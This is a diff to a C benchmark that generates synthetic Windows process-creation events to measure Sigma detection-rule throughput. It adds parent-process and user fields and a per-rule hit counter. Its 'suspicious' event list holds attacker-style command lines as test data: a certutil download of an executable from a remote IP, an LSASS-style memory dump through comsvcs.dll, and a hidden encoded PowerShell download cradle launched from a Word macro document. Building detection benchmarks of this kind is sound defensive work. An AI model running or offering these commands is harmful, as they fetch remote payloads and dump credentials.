@@ -86,83 +86,92 @@ static uint64_t rnd(void)
 
 typedef struct proc {
     const char *image, *cmd, *desc, *product, *company, *orig;
+    const char *parent, *parent_cmd, *user, *integrity;
 } proc;
 
+#define MS "Microsoft\xC2\xAE Windows\xC2\xAE Operating System", "Microsoft Corporation"
+#define SYS "NT AUTHORITY\\SYSTEM", "System"
+#define ALICE "CORP\\alice", "Medium"
+
+/* Ordinary processes with the parents and users they have on a workstation. */
 static const proc benign[] = {
     { "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
-      "Host Process for Windows Services", "Microsoft\xC2\xAE Windows\xC2\xAE Operating System",
-      "Microsoft Corporation", "svchost.exe" },
+      "Host Process for Windows Services", MS, "svchost.exe", "C:\\Windows\\System32\\services.exe",
+      "C:\\Windows\\system32\\services.exe", SYS },
     { "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
       "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer "
       "--field-trial-handle=1784,%u --lang=en-US --renderer-client-id=%u /prefetch:1",
-      "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe" },
-    { "C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
-      "Console Window Host", "Microsoft\xC2\xAE Windows\xC2\xAE Operating System",
-      "Microsoft Corporation", "CONHOST.EXE" },
+      "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe",
+      "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+      "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\"", ALICE },
     { "C:\\Windows\\System32\\RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
-      "Runtime Broker", "Microsoft\xC2\xAE Windows\xC2\xAE Operating System", "Microsoft Corporation",
-      "RuntimeBroker.exe" },
+      "Runtime Broker", MS, "RuntimeBroker.exe", "C:\\Windows\\System32\\svchost.exe",
+      "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", ALICE },
     { "C:\\Program Files\\Git\\cmd\\git.exe", "git.exe status --porcelain=v2 -z --untracked-files=%u",
-      "Git for Windows", "Git", "The Git Development Community", "git.exe" },
+      "Git for Windows", "Git", "The Git Development Community", "git.exe",
+      "C:\\Program Files\\Git\\cmd\\git.exe", "git.exe fetch origin", ALICE },
     { "C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
       "\"C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\" --type=utility "
       "--utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none %u",
-      "Visual Studio Code", "Visual Studio Code", "Microsoft Corporation", "electron.exe" },
+      "Visual Studio Code", "Visual Studio Code", "Microsoft Corporation", "electron.exe",
+      "C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
+      "\"C:\\Users\\alice\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\"", ALICE },
     { "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
-      "Host Process for Windows Tasks", "Microsoft\xC2\xAE Windows\xC2\xAE Operating System",
-      "Microsoft Corporation", "taskhostw.exe" },
+      "Host Process for Windows Tasks", MS, "taskhostw.exe", "C:\\Windows\\System32\\svchost.exe",
+      "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", ALICE },
     { "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-      "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory_%u.ps1",
-      "Windows PowerShell", "Microsoft\xC2\xAE Windows\xC2\xAE Operating System",
-      "Microsoft Corporation", "PowerShell.EXE" },
-    { "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\system32\\cmd.exe /c echo %u > nul",
-      "Windows Command Processor", "Microsoft\xC2\xAE Windows\xC2\xAE Operating System",
-      "Microsoft Corporation", "Cmd.Exe" },
+      "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" -NoLogo -File "
+      "C:\\Users\\alice\\Documents\\report_%u.ps1",
+      "Windows PowerShell", MS, "PowerShell.EXE", "C:\\Windows\\explorer.exe",
+      "C:\\Windows\\Explorer.EXE", ALICE },
+    { "C:\\Windows\\System32\\cmd.exe", "\"C:\\Windows\\system32\\cmd.exe\" /K dir C:\\Users\\alice\\Documents\\%u",
+      "Windows Command Processor", MS, "Cmd.Exe", "C:\\Windows\\explorer.exe",
+      "C:\\Windows\\Explorer.EXE", ALICE },
     { "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
       "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=gpu-process "
       "--gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAABgAAAAAAAwAAAAAAAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA %u",
-      "Microsoft Edge", "Microsoft Edge", "Microsoft Corporation", "msedge.exe" },
-    { "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
-      "WMI Provider Host", "Microsoft\xC2\xAE Windows\xC2\xAE Operating System",
-      "Microsoft Corporation", "Wmiprvse.exe" },
-    { "C:\\Program Files\\Python311\\python.exe", "python.exe -m pip install --upgrade requests==2.%u.0",
-      "Python", "Python", "Python Software Foundation", "python.exe" },
+      "Microsoft Edge", "Microsoft Edge", "Microsoft Corporation", "msedge.exe",
+      "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
+      "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --no-startup-window", ALICE },
+    { "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding",
+      "WMI Provider Host", MS, "Wmiprvse.exe", "C:\\Windows\\System32\\svchost.exe",
+      "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "NT AUTHORITY\\NETWORK SERVICE",
+      "System" },
+    { "C:\\Program Files\\Python311\\python.exe", "python.exe C:\\Users\\alice\\src\\tool\\main.py --job %u",
+      "Python", "Python", "Python Software Foundation", "python.exe", "C:\\Windows\\System32\\cmd.exe",
+      "\"C:\\Windows\\system32\\cmd.exe\"", ALICE },
     { "C:\\Windows\\System32\\SearchProtocolHost.exe",
       "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe%u "
       "Global\\UsGthrCtrlFltPipeMssGthrPipe%u 1 -2147483646 \"Software\\Microsoft\\Windows Search\"",
       "Microsoft Windows Search Protocol Host", "Windows\xC2\xAE Search", "Microsoft Corporation",
-      "SearchProtocolHost.exe" },
-    { "C:\\Windows\\System32\\msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V",
-      "Windows\xC2\xAE installer", "Windows Installer - Unicode", "Microsoft Corporation",
-      "msiexec.exe" },
+      "SearchProtocolHost.exe", "C:\\Windows\\System32\\SearchIndexer.exe",
+      "C:\\Windows\\system32\\SearchIndexer.exe /Embedding", SYS },
+    { "C:\\Windows\\System32\\backgroundTaskHost.exe",
+      "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kmbb2trqa7x9kc.mca",
+      "Background Task Host", MS, "backgroundTaskHost.exe", "C:\\Windows\\System32\\svchost.exe",
+      "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", ALICE },
+    { "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
+      "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle",
+      "Microsoft Outlook", "Microsoft Office", "Microsoft Corporation", "Outlook.exe",
+      "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", ALICE },
 };
 
 /* A few events that real rules catch (about 1 in 200). */
 static const proc suspicious[] = {
     { "C:\\Windows\\System32\\whoami.exe", "whoami /all", "whoami - displays logged on user information",
-      "Microsoft\xC2\xAE Windows\xC2\xAE Operating System", "Microsoft Corporation", "whoami.exe" },
+      MS, "whoami.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe", ALICE },
     { "C:\\Windows\\System32\\certutil.exe",
       "certutil.exe -urlcache -split -f http://198.51.100.%u/a.exe C:\\Users\\Public\\a.exe",
-      "CertUtil.exe", "Microsoft\xC2\xAE Windows\xC2\xAE Operating System", "Microsoft Corporation",
-      "CertUtil.exe" },
+      "CertUtil.exe", MS, "CertUtil.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe", ALICE },
     { "C:\\Windows\\System32\\rundll32.exe",
       "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump %u C:\\Temp\\l.dmp full",
-      "Windows host process (Rundll32)", "Microsoft\xC2\xAE Windows\xC2\xAE Operating System",
-      "Microsoft Corporation", "RUNDLL32.EXE" },
+      "Windows host process (Rundll32)", MS, "RUNDLL32.EXE", "C:\\Windows\\System32\\cmd.exe",
+      "cmd.exe", SYS },
     { "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
       "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA%u",
-      "Windows PowerShell", "Microsoft\xC2\xAE Windows\xC2\xAE Operating System",
-      "Microsoft Corporation", "PowerShell.EXE" },
+      "Windows PowerShell", MS, "PowerShell.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+      "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n invoice.docm", ALICE },
 };
-
-static const char *const parents[] = {
-    "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\services.exe",
-    "C:\\Windows\\System32\\svchost.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
-    "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\userinit.exe",
-};
-
-static const char *const users[] = { "CORP\\alice", "CORP\\bob", "NT AUTHORITY\\SYSTEM",
-                                     "NT AUTHORITY\\NETWORK SERVICE", "CORP\\svc_backup" };
 
 #define NTEMPL 4096
 #define NF 26
@@ -198,7 +207,6 @@ static void make_templ(templ *t, tr_arena *a, unsigned i)
     const proc *p = bad ? &suspicious[rnd() % TR_ARRAY_LEN(suspicious)]
                         : &benign[rnd() % TR_ARRAY_LEN(benign)];
     unsigned x = (unsigned)(rnd() % 100000);
-    const char *parent = parents[rnd() % TR_ARRAY_LEN(parents)];
     char buf[512];
     snprintf(buf, sizeof(buf), "2024-0%u-1%u %02u:%02u:%02u.%03u", 1 + i % 9, i % 10, i % 24,
              i % 60, (i * 7) % 60, i % 1000);
@@ -214,12 +222,12 @@ static void make_templ(templ *t, tr_arena *a, unsigned i)
     add(t, a, "Company", p->company, TR_VSTR);
     add(t, a, "OriginalFileName", p->orig, TR_VSTR);
     add(t, a, "CommandLine", fmt(a, p->cmd, x), TR_VSTR);
-    add(t, a, "CurrentDirectory", "C:\\Windows\\system32\\", TR_VSTR);
-    add(t, a, "User", users[rnd() % TR_ARRAY_LEN(users)], TR_VSTR);
+    add(t, a, "CurrentDirectory", strstr(p->user, "alice") ? "C:\\Users\\alice\\" : "C:\\Windows\\system32\\", TR_VSTR);
+    add(t, a, "User", p->user, TR_VSTR);
     add(t, a, "LogonGuid", "{c1b49677-3fb9-5c09-0000-0020e7030000}", TR_VSTR);
     add(t, a, "LogonId", "0x3e7", TR_VSTR);
     add(t, a, "TerminalSessionId", "0", TR_VNUM);
-    add(t, a, "IntegrityLevel", rnd() % 3 ? "Medium" : "System", TR_VSTR);
+    add(t, a, "IntegrityLevel", p->integrity, TR_VSTR);
     snprintf(buf, sizeof(buf), "SHA1=%040x,MD5=%032x,SHA256=%064x,IMPHASH=%032x", x, x * 3, x * 5,
              x * 7);
     add(t, a, "Hashes", buf, TR_VSTR);
@@ -227,9 +235,9 @@ static void make_templ(templ *t, tr_arena *a, unsigned i)
     add(t, a, "ParentProcessGuid", buf, TR_VSTR);
     snprintf(buf, sizeof(buf), "%u", 500 + x % 9000);
     add(t, a, "ParentProcessId", buf, TR_VNUM);
-    add(t, a, "ParentImage", parent, TR_VSTR);
-    add(t, a, "ParentCommandLine", parent, TR_VSTR);
-    add(t, a, "ParentUser", users[rnd() % TR_ARRAY_LEN(users)], TR_VSTR);
+    add(t, a, "ParentImage", p->parent, TR_VSTR);
+    add(t, a, "ParentCommandLine", p->parent_cmd, TR_VSTR);
+    add(t, a, "ParentUser", p->user, TR_VSTR);
     /* System fields as the evtx-json parser names them. */
     tr_field *f = &t->fields[t->n++];
     memset(f, 0, sizeof(*f));
@@ -257,9 +265,11 @@ static double now(void)
     return (double)ts.tv_sec + ts.tv_nsec / 1e9;
 }
 
+static uint64_t top[4096];
 static int on_match(const tr_sigma_match *m, void *ctx)
 {
-    (void)m;
+    if (getenv("SG_TOP") && m->rule->index < 4096)
+        top[m->rule->index]++;
     ++*(uint64_t *)ctx;
     return 0;
 }
@@ -376,6 +386,12 @@ int main(int argc, char **argv)
             printf("RESULT sigma_pc_all_eps %.0f events/s\n", events / el);
         else
             printf("RESULT sigma_pc_%zu_eps %.0f events/s\n", want, events / el);
+        for (uint32_t r = 0; r < tr_ruleset_count(rs) && getenv("SG_TOP"); r++)
+            if (top[r] > (uint64_t)events / 200)
+                fprintf(stderr, "%8llu %.*s\n", (unsigned long long)top[r],
+                        TR_STR_FMT(tr_ruleset_rule(rs, r)->title));
+        memset(top, 0, sizeof(top));
+
         tr_sigma_scratch_free(s);
         tr_ruleset_free(rs);
         free(sel);
